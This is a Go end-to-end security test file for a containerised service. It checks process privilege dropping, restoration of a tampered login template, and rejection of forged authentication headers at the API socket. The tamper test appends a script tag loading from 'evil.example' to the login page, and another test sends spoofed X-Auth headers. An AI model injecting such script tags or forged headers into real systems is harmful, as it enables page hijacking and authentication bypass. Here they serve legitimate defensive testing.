package image

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"coffer/scripts/e2e/box"
	"coffer/scripts/e2e/papers"
	"coffer/scripts/e2e/tier"
)

// What /proc says inside the container about every process but init.
func TestIdentities(t *testing.T) {
	tier.Need(t, tier.Image)
	c := start(t).owned(t)
	_, body := papers.Mixed(0)
	if _, err := c.Upload(within(t, time.Minute), "a.pdf", body); err != nil {
		t.Fatal(err) // so that the parser has a child to look at
	}
	c.process(t, "parser")
	all := c.sh(t, `for p in /proc/[0-9]*; do
		[ "$p" = "/proc/$$" ] && continue
		echo "=== $(tr '\0' ' ' <"$p/cmdline")"; cat "$p/status"; done 2>/dev/null`)
	users := map[string]string{} // of each role
	for entry := range strings.SplitSeq(all, "=== ") {
		title, status, _ := strings.Cut(entry, "\n")
		p := box.Process{Args: strings.Fields(title)}
		role := p.Role()
		if len(p.Args) == 0 || role == "init" || role == "sh" || role == "tr" || role == "cat" {
			continue
		}
		fields := map[string]string{}
		for line := range strings.Lines(status) {
			k, v, _ := strings.Cut(line, ":")
			fields[k] = strings.Join(strings.Fields(v), " ")
		}
		ids := strings.Fields(fields["Uid"])
		if len(ids) != 4 || len(slices.Compact(ids)) != 1 || ids[0] == "0" {
			t.Errorf("%s has user ids %q, want one that is not root", title, fields["Uid"])
			continue
		}
		if gids := strings.Fields(fields["Gid"]); len(slices.Compact(gids)) != 1 || gids[0] != ids[0] {
			t.Errorf("%s has group ids %q, want %s", title, fields["Gid"], ids[0])
		}
		for field, want := range map[string]string{
			"Groups": "", "CapEff": none, "CapPrm": none, "CapInh": none, "CapAmb": none, "CapBnd": none,
			"NoNewPrivs": "1", "Seccomp": "2",
		} {
			if fields[field] != want {
				t.Errorf("%s: %s is %q, want %q", title, field, fields[field], want)
			}
		}
		group, _, _ := strings.Cut(role, "-") // children share their parent's user
		if before, ok := users[group]; ok && before != ids[0] {
			t.Errorf("%s runs as both %s and %s", group, before, ids[0])
		}
		users[group] = ids[0]
	}
	want := map[string]string{"nginx": "10001", "api": "10002", "worker": "10003", "parser": "10004"}
	if fmt.Sprint(users) != fmt.Sprint(want) {
		t.Errorf("users are %v, want %v", users, want)
	}
}

const none = "0000000000000000"

// A page that strangers see is changed on the disk; the next boot puts its
// bytes, owner and mode back.
func TestTamperedPageIsPutBack(t *testing.T) {
	tier.Need(t, tier.Image)
	c := start(t)
	page := c.sh(t, "find /usr/share/coffer/templates -path '*login*' -type f | head -n 1")
	if page == "" {
		t.Fatal("there is no login template")
	}
	look := "sha256sum " + page + "; stat -c '%u:%g %a' " + page
	before := c.sh(t, look)
	if !strings.HasSuffix(before, "0:0 444") {
		t.Errorf("%s is %q, want root's and 444", page, before)
	}
	c.sh(t, "chmod 0666 "+page+"; echo '<script src=//evil.example></script>' >>"+page+"; chown 10001:10001 "+page)
	if c.sh(t, look) == before {
		t.Fatal("the page did not change")
	}
	docker(t, "restart", c.id)
	c.await(t)
	if after := c.sh(t, look); after != before {
		t.Errorf("after a restart %s is\n%s\nwant\n%s", page, after, before)
	}
}

// Who reaches the API's socket without the edge's token is nobody, whatever
// headers it brings.
func TestAPISocketWantsTheEdgeToken(t *testing.T) {
	tier.Need(t, tier.Image)
	c := start(t).owned(t)
	socket := fmt.Sprintf("/proc/%d/root/run/coffer/api.sock", c.pid(t))
	direct := &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "unix", socket)
	}}}
	for _, token := range []string{"", strings.Repeat("0", 64), "x"} {
		for _, path := range []string{"/api/v1/sources", "/api/v1/search?q=a", "/library", "/_edge/verify"} {
			req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://localhost"+path, nil)
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("X-Auth-User", "owner")
			req.Header.Set("X-Auth-Kind", "session")
			req.Header.Set("X-Auth-Scopes", "read add admin")
			if token != "" {
				req.Header.Set("X-Edge-Token", token)
			}
			res, err := direct.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			_ = res.Body.Close()
			if res.StatusCode != http.StatusUnauthorized {
				t.Errorf("%s with token %q answers %d, want 401", path, token, res.StatusCode)
			}
		}
	}
}
